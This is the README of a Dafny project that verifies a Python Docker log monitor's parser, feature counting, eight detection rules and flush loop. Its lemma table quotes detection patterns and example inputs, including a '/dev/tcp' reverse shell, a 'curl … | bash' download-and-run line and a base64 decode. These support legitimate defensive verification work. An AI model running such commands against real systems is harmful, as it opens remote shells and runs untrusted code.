# pds log monitor: a verified model of the window pipeline

The `monitor/` package of pds follows the logs of a set of Docker
containers. It parses each line into a `LogEvent` and keeps a buffer of
events per container. Every `WINDOW_SECONDS` (10 s) it flushes all
non-empty buffers. For each one it computes window features and applies
eight heuristic rules, then reports the rule hits (or "RULE none") and
clears the buffer.

This project models that pipeline in Dafny, one module per source file:

| module | file | source | form |
|---|---|---|---|
| `Common` | `common.dfy` | — | `Option`, `Result`, and `GetCount` (Python's `dict.get(k, 0)`) |
| `Text` | `text.dfy` | `str.strip`, `rstrip("\n")`, `lower`, `upper`, `in` | functions and lemmas |
| `Preprocess` | `preprocess.dfy` | `monitor/preprocess.py` | functions and lemmas |
| `Features` | `features.dfy` | `monitor/features.py` | a specification function `FeaturesOf`, plus methods with the source's counting loops |
| `Rules` | `rules.dfy` | `monitor/rules.py` | a specification function `RuleHits`, plus a method `ApplyRules` with the source's eight `if`/`append` steps |
| `RunMonitor` | `run_monitor.dfy` | `monitor/run_monitor.py` | a class `Monitor` holding the buffers and the last flush time, plus a `Flush` method with the flush loop |

How the parts are modelled:

- **Parser.** The regular expression `_LINE_RE` is modelled twice. A
  deterministic greedy scanner, `MatchLine`, does the matching. A
  declarative description of a match by its cut points, `LineShape`,
  says what a match is. Lemmas connect the two in both directions.
- **Timestamps.** `datetime.fromisoformat` becomes `ParseIsoZ`. It
  checks the calendar (month, day in month with leap years, hour, minute
  and second ranges) and keeps the first six fraction digits as
  microseconds. It follows `fromisoformat` as of Python 3.11, which takes
  a fraction of one or more digits, keeps the first six and drops the rest.
- **Features and rules.** Each is given once as a pure function
  (`FeaturesOf`, `RuleHits`). The methods that run the source's loops
  are proved to compute exactly that function.
- **The monitor.** `OnLine` is proved to append the parsed event to its
  container's buffer. `Tick` is proved to flush exactly when
  `now - lastFlush >= 10`. It produces one report entry per non-empty
  buffer, in insertion order, and leaves every buffer empty.

Python's `\s`, `isspace` and `strip()` use the same whitespace set. The
model uses that set: ASCII whitespace, the four information separators,
and the Unicode spaces and line and paragraph separators.
`\d` and case mapping are modelled on ASCII (see "Left out").

In three cases the code behaves in ways a reader might not expect; the
model follows the code:

- **Bad timestamps.** A line with the strict shape but an impossible
  date, such as month 13, makes `parse_log_line` raise. It does not fall
  back to "now". The model returns `Err(InvalidDateTime(ts))`, and
  `OnLine` then leaves the buffers unchanged.
- **Blank messages.** A message of whitespace only is not filtered out.
  It counts as one distinct message: the empty string. Only messages
  that are empty before stripping are dropped from the uniqueness count.
- **The crash-loop example.** Take a window of 5 events with 2 errors,
  where 3 messages are identical and 2 are unique. It has 3 distinct
  messages, so its repeat ratio is 0.4 and the crash-loop rule does
  **not** fire (`Rules.ThreeRepeatsScenario`).

## Model

| member | source | states |
|---|---|---|
| `Text.TrimStartSlice` | monitor/preprocess.py:42 | `TrimStart` drops exactly a leading run of whitespace: the rest is a suffix of the input and starts with a non-space. |
| `Text.TrimEndSlice` | monitor/preprocess.py:42 | `TrimEnd` drops exactly a trailing run of whitespace: the rest is a prefix of the input and ends with a non-space. |
| `Text.StripSlice` | monitor/preprocess.py:42 | `strip()` returns a contiguous piece of the input with only whitespace on either side of it. |
| `Text.StripSpec` | monitor/preprocess.py:42 | A stripped string is empty or starts and ends with a non-space. It is empty exactly when the input is all whitespace. |
| `Text.StripIdempotent` | monitor/features.py:66 | Stripping twice is the same as stripping once. |
| `Text.StripPadded` | monitor/features.py:58 | Whitespace padding on either side does not change what `strip()` returns. |
| `Text.TrimStartPadded` | monitor/features.py:58 | Leading whitespace padding does not change the left strip. |
| `Text.TrimEndPadded` | monitor/features.py:58 | Trailing whitespace padding does not change the right strip. |
| `Text.TrimStartAppend` | monitor/preprocess.py:42 | Once a string has a non-space character, text appended after it survives the left strip unchanged. |
| `Text.StripUpperIgnoresCase` | monitor/features.py:58 | Lower-casing before `strip().upper()` does not change the result. |
| `Text.UpperOfLower` | monitor/features.py:58 | `upper(lower(s)) == upper(s)`. |
| `Text.StripUnchanged` | monitor/preprocess.py:42 | A string that starts and ends with a non-space is its own strip. |
| `Text.TrimNewlines` | monitor/preprocess.py:36 | `rstrip("\n")` removes exactly the trailing line feeds: the input is the result followed by line feeds, and the result does not end in one. |
| `Text.LowerStr` | monitor/features.py:74 | `lower()` maps character by character and keeps the length. |
| `Text.UpperStr` | monitor/features.py:58 | `upper()` maps character by character and keeps the length. |
| `Text.ContainsIff` | monitor/features.py:76 | `k in s` holds exactly when `k` occurs in `s` at some index. |
| `Text.ContainsPrefix` | monitor/features.py:14 | A string that contains `a + b` also contains `a`. |
| `Preprocess.SkipSpace` | monitor/preprocess.py:24 | `\s*` stops at the first non-space and passes over whitespace only. |
| `Preprocess.SkipDigits` | monitor/preprocess.py:22 | `\d+` stops at the first non-digit and passes over digits only. |
| `Preprocess.FirstNewline` | monitor/preprocess.py:24 | `.*` stops at the first line feed or at the end. |
| `Preprocess.ScanTs` | monitor/preprocess.py:22 | A timestamp the scanner accepts has the shape `dddd-dd-ddTdd:dd:dd(.d+)?Z`. |
| `Preprocess.ScanTsComplete` | monitor/preprocess.py:22 | Every piece of the line with the timestamp shape is accepted by the scanner, with the same end. |
| `Preprocess.ScanLevel` | monitor/preprocess.py:23 | An accepted level is one of INFO, WARN, ERROR, DEBUG, TRACE and sits between `[` and `]`. |
| `Preprocess.ScanLevelComplete` | monitor/preprocess.py:23 | Every bracketed level token is accepted. |
| `Preprocess.MatchLine` | monitor/preprocess.py:24 | Every match the scanner returns has the shape of `_LINE_RE`: optional whitespace, a timestamp, whitespace, a bracketed level, whitespace, a rest without line feeds, and only whitespace after it. |
| `Preprocess.MatchLineComplete` | monitor/preprocess.py:24 | Every line that has the `_LINE_RE` shape is matched. The match has the same timestamp and level groups, and its rest group starts no earlier. |
| `Preprocess.MatchLineHead` | monitor/preprocess.py:24 | After a timestamp, whitespace and a level, the whole match is decided by the tail of the line. |
| `Preprocess.SkipSpaceLands` | monitor/preprocess.py:24 | `\s*` ends exactly at the first non-space after a run of whitespace. |
| `Preprocess.FirstNewlineLands` | monitor/preprocess.py:24 | `.*` ends exactly at the first line feed. |
| `Preprocess.SkipDigitsLands` | monitor/preprocess.py:22 | `\d+` ends exactly at the first non-digit after a run of digits. |
| `Preprocess.TailComplete` | monitor/preprocess.py:24 | Given a tail made of whitespace, a rest without line feeds and trailing whitespace, the scanner's rest group starts no earlier and only whitespace follows it. |
| `Preprocess.MatchRestComplete` | monitor/preprocess.py:24 | Such a tail is always matched, with the timestamp and level cuts unchanged. |
| `Preprocess.ParseIsoZ` | monitor/preprocess.py:27-32 | A timestamp is accepted only when it names a real UTC instant: the day exists in its month, with leap years. |
| `Preprocess.ParseLogLine` | monitor/preprocess.py:35-48 | The event keeps the container and the line without trailing line feeds, and its level is a known token. On a match: an error exactly when the date is invalid, otherwise the matched level, the stripped rest and the written time. Otherwise: INFO, the stripped line and the current time. |
| `Preprocess.FormatLineShape` | monitor/preprocess.py:19-21 | A line written as `ts [LEVEL] msg` has the `_LINE_RE` shape, with cuts at the written positions. |
| `Preprocess.FormatLineMatch` | monitor/preprocess.py:19-21 | The scanner matches such a line with exactly those cuts. |
| `Preprocess.ParseFormatLine` | monitor/preprocess.py:35-43 | Round trip: parsing `ts [LEVEL] msg` gives back the level, the message and the timestamp's fields, or an error exactly when the timestamp is not a valid date. |
| `Preprocess.ParseDocExample` | monitor/preprocess.py:21 | The documented example `2026-02-01T12:34:56Z [ERROR] bug_service: something` parses to an ERROR event at 2026-02-01 12:34:56 UTC with message `bug_service: something`. |
| `Features.NormalizeLevel` | monitor/features.py:57-59 | The result is always one of DEBUG, INFO, WARN, ERROR. Any result other than INFO is the stripped, upper-cased input, and a stripped, upper-cased input that is a level is the result. |
| `Features.NormalizeParsedLevel` | monitor/features.py:57-59 | Every level the parser produces keeps its name, except TRACE, which becomes INFO. |
| `Features.KnownLevelUnchanged` | monitor/features.py:26 | The four known levels normalise to themselves. |
| `Features.NormalizeLevelIgnoresCaseAndPadding` | monitor/features.py:58 | Normalisation ignores surrounding whitespace and letter case. |
| `Features.EmptyLevelIsInfo` | monitor/features.py:58 | An empty level counts as INFO. |
| `Features.NormalizedIsKnown` | monitor/features.py:59 | Every normalised level is one of the four counted levels. |
| `Features.LevelCountsSum` | monitor/features.py:63-93 | The DEBUG, INFO, WARN and ERROR counts add up to the number of events. |
| `Features.LevelCountAppend` | monitor/features.py:64 | Appending an event adds 1 to its normalised level's count only. |
| `Features.AppendBare` | monitor/features.py:66 | Appending an event with a stripped non-empty message appends that message. |
| `Features.LevelCount` | monitor/features.py:64 | A level count is at most the number of events. |
| `Features.MessageList` | monitor/features.py:66 | The list of stripped non-empty messages is no longer than the window. |
| `Features.ElementSetSize` | monitor/features.py:67 | `len(set(messages)) <= len(messages)`. |
| `Features.DistinctAtMostTotal` | monitor/features.py:67 | The number of distinct messages is at most the number of events. |
| `Features.RatioLaws` | monitor/features.py:68-69 | Both ratios lie in [0, 1] and sum to 1 on a non-empty window. Both are 0 on an empty window. |
| `Features.EmptyMessagesAreRepeats` | monitor/features.py:66-69 | In a non-empty window where every message is empty, the uniqueness ratio is 0 and the repeat ratio is 1. |
| `Features.NoMessages` | monitor/features.py:66 | Empty messages are dropped from the list. |
| `Features.BlankMessages` | monitor/features.py:66 | Whitespace-only messages are kept, as empty strings. |
| `Features.BlankMessagesCountAsOne` | monitor/features.py:66-67 | A window of whitespace-only messages has exactly one distinct message. |
| `Features.KeywordCount` | monitor/features.py:72-77 | A keyword is counted at most once per event. |
| `Features.PatternCount` | monitor/features.py:80-85 | A pattern is counted at most once per event. |
| `Features.KeywordCountAtLeast` | monitor/features.py:73-77 | Two different events whose lower-cased messages contain a keyword give it a count of at least 2 (one such event gives at least 1). |
| `Features.PatternCountAtLeast` | monitor/features.py:81-85 | The same holds for a pattern that matches two events. |
| `Features.FailedPasswordImpliesFailed` | monitor/features.py:12-15 | The `failed password` keyword count never exceeds the `failed` count. |
| `Features.SearchLitIsKeyword` | monitor/features.py:22 | A case-insensitive literal pattern matches exactly when the literal occurs in the lower-cased message. |
| `Features.FailedPasswordPatternIsKeyword` | monitor/features.py:14-22 | The `failed_password` pattern count equals the `failed password` keyword count. |
| `Features.ParsedMessagesAreStripped` | monitor/preprocess.py:42-48 | A parsed message is already stripped, so the strip in the features step does not change it. |
| `Features.KeywordsDistinct` | monitor/features.py:12-15 | The 14 keywords are pairwise different, so each gets its own counter. |
| `Features.PatternNamesAreKeys` | monitor/features.py:18-24 | The five pattern names are pairwise different and are exactly the keys of the pattern table. |
| `Features.CurlPipeBashFound` | monitor/features.py:19 | `curl` in any case, whitespace, a non-empty run with no line break, a pipe character, optional whitespace and `bash` in any case is found anywhere in a message. |
| `Features.CurlPipeBashNeedsPipe` | monitor/features.py:19 | A message with no pipe character never matches curl_pipe_bash. |
| `Features.CurlPipeBashExample` | monitor/features.py:19 | `CURL -s http://x/a.sh`, a pipe and ` BASH` together match. |
| `Features.CurlPipeBashNearMiss` | monitor/features.py:19 | A download to a file, `curl -o /tmp/a.sh http://x/a.sh`, does not match. |
| `Features.Base64DecodeFound` | monitor/features.py:20 | `base64` in any case, whitespace and then `-d` or `--decode` in any case is found anywhere in a message. |
| `Features.Base64DecodeNeedsSpace` | monitor/features.py:20 | A message with no whitespace never matches base64_decode. |
| `Features.Base64DecodeExample` | monitor/features.py:20 | `echo aGk=`, a pipe and ` base64 -d` together match, and so does `BASE64 --DECODE payload`. |
| `Features.Base64DecodeNearMiss` | monitor/features.py:20 | `base64-d`, without whitespace, does not match. |
| `Features.ReverseShellFound` | monitor/features.py:21 | `/dev/tcp/` in any case, four dot-separated groups of one to three digits, `/` and a digit run is found anywhere in a message. |
| `Features.ReverseShellNeedsDot` | monitor/features.py:21 | A message with no `.` never matches reverse_shell. |
| `Features.ReverseShellLength` | monitor/features.py:21 | A message that matches reverse_shell has at least 18 characters. |
| `Features.ReverseShellExample` | monitor/features.py:21 | `bash -i >& /dev/tcp/10.0.0.5/4444 0>&1` matches. |
| `Features.ReverseShellThreeGroups` | monitor/features.py:21 | An address of three groups, `/dev/tcp/1.2.3/4`, does not match. |
| `Features.ReverseShellNearMiss` | monitor/features.py:21 | A path to a host name, `/dev/tcp/attacker/4444`, does not match. |
| `Features.FailedPasswordFound` | monitor/features.py:22 | `failed password` in any case is found anywhere in a message. |
| `Features.PortScanFound` | monitor/features.py:23 | `portscan`, `multiple connection attempts` or `nmap`, each in any case, is found anywhere in a message. |
| `Features.FailedPasswordExample` | monitor/features.py:22 | `FAILED PASSWORD for root` matches failed_password and `failed passwd` does not. |
| `Features.PortScanExample` | monitor/features.py:23 | `Nmap scan report` and `multiple connection attempts from 10.0.0.5` match port_scan. |
| `Features.FeaturesWellFormed` | monitor/features.py:62-98 | The features of any window satisfy: level counts sum to the total, ratios in [0, 1] that add up to 1 (both 0 for an empty window), an entry for every keyword and pattern, and no count above the total. |
| `Features.AddKeywordHits` | monitor/features.py:74-77 | One pass of the keyword loop adds 1 to exactly the keywords found in the lower-cased message and keeps the key set. |
| `Features.CountKeywords` | monitor/features.py:72-77 | The keyword loop over the window computes, for every keyword, the number of events that contain it. |
| `Features.AddPatternHits` | monitor/features.py:82-85 | One pass of the pattern loop adds 1 to exactly the patterns that match the message and keeps the key set. |
| `Features.CountPatterns` | monitor/features.py:80-85 | The pattern loop over the window computes, for every pattern, the number of events it matches. |
| `Features.PatternHitsByEntry` | monitor/features.py:80-85 | A table with the pattern keys and the right count under every key is the pattern-hit table. |
| `Features.ComputeFeatures` | monitor/features.py:62-98 | `compute_features` returns the features of the window, and they are well formed. |
| `Rules.IssueAt` | monitor/rules.py:20-84 | The k-th rule in source order has rank k. |
| `Rules.Rank` | monitor/rules.py:20-84 | Every rule has a position among the eight. |
| `Rules.RankDetermines` | monitor/rules.py:20-84 | Different rules have different positions. |
| `Rules.FailedPasswordMax` | monitor/rules.py:66 | The brute-force count is the larger of the `failed_password` pattern count and the `failed password` keyword count. |
| `Rules.HitsUpTo` | monitor/rules.py:20-84 | After k rules there are at most k hits. |
| `Rules.HitsUpToSound` | monitor/rules.py:20-84 | Every hit after k rules is for a rule among the first k whose condition holds, with that rule's severity and reason. |
| `Rules.HitsUpToComplete` | monitor/rules.py:20-84 | Every rule among the first k whose condition holds is reported. |
| `Rules.HitsUpToRanked` | monitor/rules.py:20-84 | The hits come in source order. |
| `Rules.RuleHitsOrdered` | monitor/rules.py:20-84 | `apply_rules` returns at most 8 hits, in source order, with no rule twice. |
| `Rules.RuleHitsFire` | monitor/rules.py:20-84 | A rule is reported exactly when its condition holds, with its fixed severity and its reason. |
| `Rules.RuleConditions` | monitor/rules.py:24-82 | The eight conditions, each as an if-and-only-if on the features: crash loop (total >= 5, error >= 2, repeat >= 0.6), service errors (error >= 3), curl, base64, reverse shell, brute force (a failed-password count >= 2), port scan, refused or timeout. |
| `Rules.Severities` | monitor/rules.py:25-80 | No rule is LOW. Exactly service errors, port scan and dependency down are MED; the rest are HIGH. |
| `Rules.QuietFeatures` | monitor/rules.py:20-84 | A window with no errors and no keyword or pattern hits reports nothing. |
| `Rules.EmptyWindowNoHits` | monitor/rules.py:20-84 | An empty window reports nothing. |
| `Rules.CrashLoopOnWindow` | monitor/rules.py:24 | On a window, the crash-loop rule fires exactly when there are >= 5 events, >= 2 of them errors, and at most 2/5 of the events carry distinct messages. |
| `Rules.RepeatThreshold` | monitor/rules.py:24 | `1 - d/t >= 0.6` is the same as `5d <= 2t`. |
| `Rules.KeywordEntry` | monitor/features.py:72-77 | The rules read each keyword's count from the table. |
| `Rules.PatternEntry` | monitor/features.py:80-85 | The rules read each pattern's count from the table. |
| `Rules.IndicatorEvent` | monitor/rules.py:40-82 | A single event with a curl, base64, reverse-shell, port-scan or refused/timeout indicator makes the matching rule fire for its window. |
| `Rules.BruteforceEvents` | monitor/rules.py:62 | Two events that both mention `failed password` make the brute-force rule fire. |
| `Rules.CurlLineMatches` | monitor/features.py:19 | `curl <url> \| bash` matches the curl keyword and the `curl_pipe_bash` pattern. |
| `Rules.CurlPipeBashScenario` | monitor/rules.py:40-45 | A window holding `curl http://x/payload.sh \| bash` counts one keyword hit and one pattern hit, and reports a HIGH suspicious command. |
| `Rules.FailedPasswordScenario` | monitor/rules.py:62-67 | Two `Failed password for root` lines report a HIGH brute-force attempt. |
| `Rules.ThreeRepeatsMessages` | monitor/features.py:66 | The five-event example window yields the messages `[x, x, x, y, z]`. |
| `Rules.ThreeRepeatsErrors` | monitor/features.py:64-93 | The example window has 2 errors. |
| `Rules.ThreeRepeatsDistinct` | monitor/features.py:67 | The example window has 5 events and 3 distinct messages. |
| `Rules.ThreeRepeatsScenario` | monitor/rules.py:24 | Its repeat ratio is 0.4, so the crash-loop rule does not fire. |
| `Rules.AppendRule` | monitor/rules.py:24-82 | One `if`/`append` step turns the hits after k rules into the hits after k + 1. |
| `Rules.ApplyRules` | monitor/rules.py:20-84 | `apply_rules` returns exactly the rule hits of the features. |
| `RunMonitor.FlushReport` | monitor/run_monitor.py:63-84 | A flush reports at most as many entries as there are containers. |
| `RunMonitor.NonEmpty` | monitor/run_monitor.py:63-65 | No more containers are reported than are known, and each one reported is known. |
| `RunMonitor.NonEmptyInOrder` | monitor/run_monitor.py:63-65 | The containers reported keep the insertion order of the buffer dictionary. |
| `RunMonitor.NonEmptyMembers` | monitor/run_monitor.py:63-65 | A container is reported exactly when it is known and its buffer is non-empty. |
| `RunMonitor.NonEmptyDistinct` | monitor/run_monitor.py:63 | No container is reported twice. |
| `RunMonitor.FlushReportEntries` | monitor/run_monitor.py:63-84 | The j-th report entry summarises the j-th non-empty buffer, in insertion order. |
| `RunMonitor.FlushReportOrder` | monitor/run_monitor.py:63-84 | One flush names each container at most once, in the order the containers first logged a line. |
| `RunMonitor.EntryContents` | monitor/run_monitor.py:67-84 | An entry holds the container, its features, and as evidence exactly the keywords and patterns with a non-zero count, with those counts. It says "RULE none" exactly when no rule fires, and otherwise lists the rule hits. |
| `RunMonitor.EmptyBuffersNoReport` | monitor/run_monitor.py:64-65 | When every buffer is empty, a flush reports nothing. |
| `RunMonitor.FlushAfterFlush` | monitor/run_monitor.py:87 | A second flush straight after a flush reports nothing. |
| `RunMonitor.Summarise` | monitor/run_monitor.py:67-84 | One container's summary is its report entry. |
| `RunMonitor.FlushOne` | monitor/run_monitor.py:63-87 | One loop step summarises and clears one container and keeps the others. |
| `RunMonitor.Flush` | monitor/run_monitor.py:63-87 | The flush loop produces the flush report and leaves every buffer empty, with the same containers. |
| `RunMonitor.Monitor.constructor` | monitor/run_monitor.py:28-29 | The monitor starts with no buffers and with the last flush at the start time. |
| `RunMonitor.Monitor.OnLine` | monitor/run_monitor.py:31-33 | The line is parsed as `parse_log_line` parses it. A parsed event is appended to its container's buffer, and a new container goes last in the order. No other buffer and not the flush time changes. A parse error changes nothing. |
| `RunMonitor.Monitor.Append` | monitor/run_monitor.py:33 | `buffers[container].append(evt)` on a default dictionary: the event goes at the end of that container's buffer, which is created if it is missing. |
| `RunMonitor.Monitor.Tick` | monitor/run_monitor.py:56-87 | The monitor flushes exactly when at least 10 s have passed since the last flush. A flush records the time, reports every non-empty buffer in order and clears all buffers. Otherwise nothing changes. |

## Left out

- The Docker log streamer (`monitor/docker_logs.py`), the reader threads, signals, `time.sleep` and the printed text (`format_event`, the "window flush" and per-container lines) are left out. Report entries carry the printed values as data.
- `monitor/config.py` and the lab services are not part of this model.
- Clocks are parameters. The parser's fallback "now" is an `Instant` argument, and the monitor's `time.time()` is a `real` argument of `Tick`.
- Timezones: only `Z` timestamps reach `_parse_iso_z`, and the model keeps UTC fields.
- Features.FeaturesOf: the two ratios are exact reals. `round(x, 4)` and float arithmetic are not modelled, so a threshold comparison at a rounding boundary may differ from the source.
- Text.LowerStr: `lower()` is modelled on ASCII letters only and keeps the length. Non-ASCII case mapping (such as 'İ') is left out.
- Text.UpperStr: `upper()` is modelled on ASCII letters only and keeps the length. Non-ASCII case mapping (such as 'ß' to 'SS') is left out.
- Features.LitAt: `re.IGNORECASE` in the detection patterns is modelled on ASCII letters only, through `Lower`.
- Preprocess.SkipDigits: the parser's `\d` is modelled as the ASCII digits 0-9. The regex module's Unicode decimal digits are left out, and `ScanTs` inherits this.
- Features.ReverseShell: the pattern's `\d` is modelled as the ASCII digits 0-9.
- Rules.ReasonFor: reasons are structured values (the numbers in them, or a fixed note) rather than formatted strings. Float formatting of `repeat_ratio` is not modelled.
- Preprocess.ParseLogLine: a timestamp that `fromisoformat` rejects raises in the source. The model returns `Err`, and the exception's effect on the reader thread is not modelled.
- RunMonitor.Monitor.Tick: clearing a buffer in place is modelled as reassigning the `buffers` map. Aliasing of the cleared list objects is not modelled.
- Concurrency between the reader threads, which call `on_line`, and the flush loop is not modelled. Each operation is atomic here.
